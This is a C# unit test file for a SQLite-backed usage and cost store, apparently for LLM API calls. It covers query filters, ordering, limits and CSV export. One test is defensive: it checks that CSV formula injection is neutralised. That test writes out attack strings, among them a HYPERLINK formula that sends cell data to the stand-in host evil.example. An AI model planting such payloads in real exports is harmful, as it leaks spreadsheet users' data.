using Microsoft.Extensions.Time.Testing;
using Purser.Pricing;
using Purser.Usage;

namespace Purser.Store.Sqlite.Tests;

public sealed class UsageQueryAndCsvTests : IAsyncLifetime
{
    private static readonly TimeSpan Bound = TimeSpan.FromSeconds(30);
    private static readonly DateTimeOffset T0 = TestRecords.Start;

    private readonly TempDirectory _dir = new();
    private SqliteUsageStore _store = null!;

    public async Task InitializeAsync()
    {
        var path = _dir.File("purser.db");
        _store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
        _store.Start();

        // Recorded out of time order on purpose; r-tie-1 and r-tie-2 share a timestamp.
        _store.Record(TestRecords.Make("r2", keyId: "team-a", modelAlias: "fast", at: T0.AddMinutes(2)));
        _store.Record(TestRecords.Make("r0", keyId: "team-a", modelAlias: "smart", at: T0));
        _store.Record(TestRecords.Make("r4", keyId: "team-b", modelAlias: "smart", at: T0.AddMinutes(4)));
        _store.Record(TestRecords.Make("r1", keyId: "team-b", modelAlias: "fast", at: T0.AddMinutes(1)));
        _store.Record(TestRecords.Make("r3", keyId: "team-a", modelAlias: "smart", at: T0.AddMinutes(3)));
        _store.Record(TestRecords.Make("r-tie-1", keyId: "team-c", modelAlias: "fast", at: T0.AddMinutes(5)));
        _store.Record(TestRecords.Make("r-tie-2", keyId: "team-c", modelAlias: "fast", at: T0.AddMinutes(5)));
        await _store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
    }

    public async Task DisposeAsync()
    {
        await _store.DisposeAsync();
        _dir.Dispose();
    }

    [Fact]
    public async Task Query_without_filters_returns_all_newest_first_with_ties_in_insertion_order_reversed()
    {
        var ids = await Ids(new UsageQuery());

        Assert.Equal(["r-tie-2", "r-tie-1", "r4", "r3", "r2", "r1", "r0"], ids);
    }

    [Fact]
    public async Task Query_filters_by_key_and_model_alias()
    {
        Assert.Equal(["r3", "r2", "r0"], await Ids(new UsageQuery { KeyId = "team-a" }));
        Assert.Equal(["r4", "r3", "r0"], await Ids(new UsageQuery { ModelAlias = "smart" }));
        Assert.Equal(["r3", "r0"], await Ids(new UsageQuery { KeyId = "team-a", ModelAlias = "smart" }));
        Assert.Empty(await Ids(new UsageQuery { KeyId = "nobody" }));
    }

    [Fact]
    public async Task Query_filters_by_end_user_and_by_one_whole_tag()
    {
        _store.Record(TestRecords.Make("u1", at: T0.AddMinutes(6)) with { EndUser = "alice@example.com", Tags = "batch,nightly" });
        _store.Record(TestRecords.Make("u2", at: T0.AddMinutes(7)) with { EndUser = "bob", Tags = "batch_x" });
        _store.Record(TestRecords.Make("u3", at: T0.AddMinutes(8)) with { EndUser = "alice@example.com" });
        await _store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);

        Assert.Equal(["u3", "u1"], await Ids(new UsageQuery { EndUser = "alice@example.com" }));
        Assert.Equal(["u1"], await Ids(new UsageQuery { Tag = "batch" }));
        Assert.Equal(["u1"], await Ids(new UsageQuery { Tag = "nightly", EndUser = "alice@example.com" }));
        Assert.Equal(["u2"], await Ids(new UsageQuery { Tag = "batch_x" }));
        Assert.Empty(await Ids(new UsageQuery { Tag = "batch%" }));
        var read = (await _store.QueryAsync(new UsageQuery { EndUser = "alice@example.com", Tag = "batch" }, CancellationToken.None)).Single();
        Assert.Equal(("alice@example.com", "batch,nightly"), (read.EndUser, read.Tags));
    }

    [Fact]
    public async Task Query_time_range_includes_From_and_excludes_To()
    {
        var ids = await Ids(new UsageQuery { From = T0.AddMinutes(1), To = T0.AddMinutes(3) });

        Assert.Equal(["r2", "r1"], ids);
        Assert.Equal(["r-tie-2", "r-tie-1", "r4"], await Ids(new UsageQuery { From = T0.AddMinutes(4) }));
        Assert.Equal(["r0"], await Ids(new UsageQuery { To = T0.AddMinutes(1) }));
    }

    [Fact]
    public async Task Query_limit_keeps_the_newest_and_non_positive_means_unlimited()
    {
        Assert.Equal(["r-tie-2", "r-tie-1"], await Ids(new UsageQuery { Limit = 2 }));
        Assert.Equal(["r3"], await Ids(new UsageQuery { KeyId = "team-a", Limit = 1 }));
        Assert.Equal(7, (await Ids(new UsageQuery { Limit = 0 })).Count);
    }

    [Fact]
    public async Task Csv_has_header_and_quotes_fields_with_commas_and_quotes()
    {
        var path = _dir.File("csv.db");
        await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
        store.Start();
        store.Record(new UsageRecord
        {
            RequestId = "req-1",
            Timestamp = new DateTimeOffset(2025, 1, 2, 5, 4, 5, 678, TimeSpan.FromHours(2)),
            KeyId = "team-a",
            ModelAlias = "gpt, \"the\" best",
            Provider = "openai",
            UpstreamModel = "gpt-4o",
            Operation = "chat",
            Tokens = new TokenUsage(1000, 50, 200, 300, CacheWrite1hTokens: 100, ReasoningTokens: 30, WebSearchRequests: 2, Tier: ServiceTier.Priority),
            Cost = new Money(125_000),
            Status = 200,
            LatencyMs = 42,
            Streamed = true,
            Source = UsageSource.Reported,
        });
        store.Record(TestRecords.Make("req-0", costNano: 2_500_000_000, at: T0.AddDays(-1)) with { ErrorCode = "upstream_error", Status = 502, Source = UsageSource.Counted, TaskScope = "run-7", Degraded = "max_tokens=64" });
        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
        using var text = new StringWriter();

        // Newest first: req-0 (March) before req-1 (January).
        await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);

        var lines = text.ToString().Split("\r\n");
        Assert.Equal(
            [
                "request_id,timestamp,key_id,model_alias,provider,upstream_model,operation,input_tokens,output_tokens,cached_input_tokens,cache_write_tokens,cost_usd,status,error_code,latency_ms,streamed,source,task_scope,degraded,cache_write_1h_tokens,reasoning_tokens,web_search_requests,service_tier",
                "req-0,2025-03-03T05:06:07.890Z,team-a,gpt-4o,openai,gpt-4o-2024-08-06,chat,100,20,0,0,2.5,502,upstream_error,12,false,counted,run-7,max_tokens=64,0,0,0,default",
                "req-1,2025-01-02T03:04:05.678Z,team-a,\"gpt, \"\"the\"\" best\",openai,gpt-4o,chat,1000,50,200,300,0.000125,200,,42,true,reported,,,100,30,2,priority",
                "",
            ],
            lines);
    }

    [Fact]
    public async Task Csv_applies_the_query_filters()
    {
        using var text = new StringWriter();

        await _store.WriteCsvAsync(new UsageQuery { KeyId = "team-b" }, text, CancellationToken.None);

        var lines = text.ToString().Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(3, lines.Length);
        Assert.StartsWith("r4,", lines[1], StringComparison.Ordinal);
        Assert.StartsWith("r1,", lines[2], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Csv_neutralises_fields_a_spreadsheet_would_read_as_a_formula()
    {
        var path = _dir.File("formula.db");
        await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
        store.Start();
        store.Record(TestRecords.Make("f-1", modelAlias: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")") with { TaskScope = "+1+1", Degraded = "@SUM(A1)" });
        store.Record(TestRecords.Make("f-2", keyId: "-2+3", modelAlias: "\tcmd", at: T0.AddMinutes(1)) with { ErrorCode = "\r=1" });
        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
        using var text = new StringWriter();

        await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);

        var lines = text.ToString().Split("\r\n");
        Assert.Equal("f-2,2025-03-04T05:07:07.890Z,\"'-2+3\",\"'\tcmd\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,\"'\r=1\",12,false,reported,,,0,0,0,default", lines[1]);
        Assert.Equal("f-1,2025-03-04T05:06:07.890Z,team-a,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",openai,gpt-4o-2024-08-06,chat,100,20,0,0,0.000001,200,,12,false,reported,\"'+1+1\",\"'@SUM(A1)\",0,0,0,default", lines[2]);
    }

    [Fact]
    public async Task Csv_fields_read_back_as_text_for_any_hostile_string()
    {
        var path = _dir.File("hostile.db");
        await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
        store.Start();

        // Generated hostile names: formula leads, separators, quotes, line breaks and non-ASCII, in every position.
        const string Alphabet = "=+-@\t\r\n,\"'aZ9 é漢😀";
        var random = new Random(17);
        var names = new List<string>();
        for (var i = 0; i < 300; i++)
        {
            var chars = new System.Text.StringBuilder();
            for (var n = random.Next(1, 12); n > 0; n--)
            {
                var at = random.Next(Alphabet.Length);
                chars.Append(char.IsHighSurrogate(Alphabet[at]) ? Alphabet.Substring(at, 2) : char.IsLowSurrogate(Alphabet[at]) ? "x" : Alphabet[at].ToString());
            }

            names.Add(chars.ToString());
            store.Record(TestRecords.Make("h-" + i.ToString(System.Globalization.CultureInfo.InvariantCulture), modelAlias: names[^1], at: T0.AddSeconds(-i)));
        }

        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
        using var text = new StringWriter();
        await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);

        var rows = Rfc4180.Parse(text.ToString());
        Assert.Equal(names.Count + 1, rows.Count);
        for (var i = 0; i < names.Count; i++)
        {
            var field = rows[i + 1][3];
            var expected = names[i][0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + names[i] : names[i];
            Assert.Equal(expected, field);
            Assert.DoesNotContain(field[0], "=+-@\t\r");
        }
    }

    private async Task<List<string>> Ids(UsageQuery query)
    {
        var records = await _store.QueryAsync(query, CancellationToken.None);
        return records.Select(r => r.RequestId).ToList();
    }
}
